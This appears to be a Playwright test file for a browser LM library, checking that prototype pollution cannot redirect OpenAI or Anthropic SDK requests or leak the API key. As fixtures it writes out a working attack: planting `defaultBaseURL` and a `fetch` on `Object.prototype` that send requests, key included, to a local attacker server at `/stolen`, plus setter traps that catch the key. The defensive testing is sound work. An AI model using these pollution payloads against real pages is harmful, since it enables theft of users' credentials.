/**
 * Issue 22's pollution, in Chromium: script on the page plants properties on
 * `Object.prototype` before and while a run goes — the `defaultBaseURL` that steered both
 * SDKs' requests (on the providers' default hosts) to another server, setters that caught
 * the key as the SDK built its lazily made sub-call client, an inherited `fetch`. The run must
 * answer as on a clean page, the key must reach the provider only, and the attacker's server
 * must see no connection at all. The providers' hosts are routed to the scripted LM server
 * (the machine has no internet); every other URL goes where it says.
 */
import { createServer, type Server } from 'node:http';
import type { Page } from '@playwright/test';
import { expect, test } from './support/fixtures';
import { isRootCall, repl, turnOf, type LMServer } from './support/lm-server';

const KEY = 'sk-VICTIM-KEY-6f1e2d3c4b5a';

interface Attacker {
  url: string;
  hits: string[];
  server: Server;
}

async function startAttacker(): Promise<Attacker> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url} ${req.headers.authorization ?? req.headers['x-api-key'] ?? ''}`);
    res.writeHead(204, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' }).end();
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, hits, server };
}

/** `https://api.openai.com/v1/...` → the LM server's `/v1/...` (and the same for Anthropic). */
async function routeProviders(page: Page, lm: LMServer): Promise<void> {
  const local = lm.anthropicURL;
  for (const host of ['https://api.openai.com', 'https://api.anthropic.com']) {
    await page.route(`${host}/**`, async (route) => {
      const response = await route.fetch({ url: route.request().url().replace(host, local) });
      await route.fulfill({ response });
    });
  }
}

/**
 * Pollution as the bridge let Python write it into the page realm: plain values, and
 * accessors that note every time they are handed the key (as a value, or on an object they
 * are called on or given, searched two levels deep). rlm-web may build a throwaway client
 * with a dummy key under them; the real one must never reach them.
 */
function pollute({ attackerURL, phase, key }: { attackerURL: string; phase: 'before' | 'during'; key: string }): void {
  const w = window as unknown as { stolen: string[] };
  w.stolen ??= [];
  const holds = (value: unknown, depth = 0): boolean => {
    if (value === key || (typeof value === 'string' && value.includes(key))) return true;
    if (typeof value !== 'object' || value === null || depth > 2) return false;
    if (value instanceof Headers) {
      let found = false;
      value.forEach((v) => (found ||= v.includes(key)));
      return found;
    }
    return Object.getOwnPropertyNames(value).some((name) => holds(Object.getOwnPropertyDescriptor(value, name)?.value, depth + 1));
  };
  const steal = (name: string) => ({
    configurable: true,
    set(this: object, value: unknown) {
      if (holds(this) || holds(value)) w.stolen.push(`${phase}: set ${name} was handed the key`);
      Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
    },
    get(this: object) {
      if (holds(this)) w.stolen.push(`${phase}: get ${name} was called on an object holding the key`);
      return undefined;
    },
  });
  const proto = Object.prototype as Record<string, unknown>;
  if (phase === 'before') {
    proto.defaultBaseURL = `${attackerURL}/v1`;
    proto.fetch = (url: string, init: RequestInit) => fetch(`${attackerURL}/stolen?u=${encodeURIComponent(url)}`, init);
    for (const name of ['apiKey', '_options', '_client']) Object.defineProperty(Object.prototype, name, steal(name));
  } else {
    proto.fetchOptions = { headers: { 'x-planted': 'yes' } };
    proto.middleware = [async (request: Request, next: (r: Request) => Promise<Response>) => (w.stolen.push(`middleware saw ${request.url}`), next(request))];
    for (const name of ['idempotencyHeader', 'webhookKey', 'authToken', 'baseURL']) Object.defineProperty(Object.prototype, name, steal(name));
  }
}

/** A root turn that asks a sub-model (whose client is built then), then answers with what it said. */
function script(lm: LMServer) {
  lm.setScript((r) => {
    if (!isRootCall(r)) return 'the sub-model says 42';
    if (turnOf(r) === 0) return repl('said = llm_query("What is six times seven?")\nprint(said)');
    return repl('answer["content"] = "answer: " + said\nanswer["ready"] = True');
  });
}

for (const backend of ['openai', 'anthropic'] as const) {
  test(`${backend} on its default host: a page polluted before and during the run answers as a clean one, and the key goes to the provider only`, async ({ harness, lm }) => {
    const attacker = await startAttacker();
    try {
      await routeProviders(harness, lm);
      script(lm);
      await harness.evaluate(pollute, { attackerURL: attacker.url, phase: 'before' as const, key: KEY });
      const run = harness.evaluate(
        async ({ backend, KEY }) => {
          const { RLM } = (window as any).rlmWeb;
          const rlm = new RLM({ backend, backendOptions: { model: 'scripted', apiKey: KEY }, otherBackends: [{ backend, backendOptions: { model: 'scripted-sub', apiKey: KEY } }] });
          try {
            const r = await rlm.completion('a page with an injection in it', { rootPrompt: 'What does the sub-model say?' });
            return { response: r.response as string, errors: r.trajectory.iterations.flatMap((i: any) => i.codeBlocks.map((b: any) => b.stderr)).join('') as string };
          } finally {
            await rlm.close();
          }
        },
        { backend, KEY },
      );
      // While the REPL boots and the first turn is on its way.
      await harness.waitForTimeout(50);
      await harness.evaluate(pollute, { attackerURL: attacker.url, phase: 'during' as const, key: KEY });
      const outcome = await run;
      const stolen = await harness.evaluate(() => (window as unknown as { stolen: unknown[] }).stolen);
      await harness.evaluate(() => {
        for (const name of ['defaultBaseURL', 'fetch', 'apiKey', '_options', '_client', 'fetchOptions', 'middleware', 'idempotencyHeader', 'webhookKey', 'authToken', 'baseURL']) delete (Object.prototype as Record<string, unknown>)[name];
      });

      expect(outcome.response).toBe('answer: the sub-model says 42');
      expect(outcome.errors).toBe('');
      expect(stolen).toEqual([]);
      expect(attacker.hits).toEqual([]);
      // Root turns and the sub-call reached the provider, each with the key.
      expect(lm.requests.length).toBe(3);
      for (const request of lm.requests) {
        // Both SDKs send the key as a bearer token (@anthropic-ai/sdk 1.x too).
        expect(request.headers.authorization).toBe(`Bearer ${KEY}`);
        expect(request.headers['x-planted']).toBeUndefined();
      }
    } finally {
      attacker.server.close();
    }
  });
}

test('a client refuses to send anywhere but its origin, with LMOriginError, even when the page hands the SDK another base', async ({ harness, lm }) => {
  const attacker = await startAttacker();
  try {
    const result = await harness.evaluate(
      async ({ attackerURL, baseURL, KEY }) => {
        const { OpenAIClient } = (window as any).rlmWeb;
        const client = new OpenAIClient({ model: 'scripted', apiKey: KEY, baseURL, maxRetries: 0 });
        // Reach the SDK client the way a hostile script holding the object could: point it elsewhere.
        const sdk = await client.sdkClient();
        sdk.baseURL = `${attackerURL}/v1`;
        try {
          await client.complete({ messages: [{ role: 'user', content: 'hi' }] });
          return { name: 'no error' };
        } catch (e: any) {
          return { name: e.name, message: e.message, allowed: e.allowedOrigin, refused: e.refusedOrigin };
        }
      },
      { attackerURL: attacker.url, baseURL: lm.openaiURL, KEY },
    );
    expect(result).toMatchObject({ name: 'LMOriginError', allowed: new URL(lm.openaiURL).origin, refused: attacker.url });
    expect(result.message).toContain('nothing was sent');
    expect(attacker.hits).toEqual([]);
    expect(lm.requests).toEqual([]);
  } finally {
    attacker.server.close();
  }
});
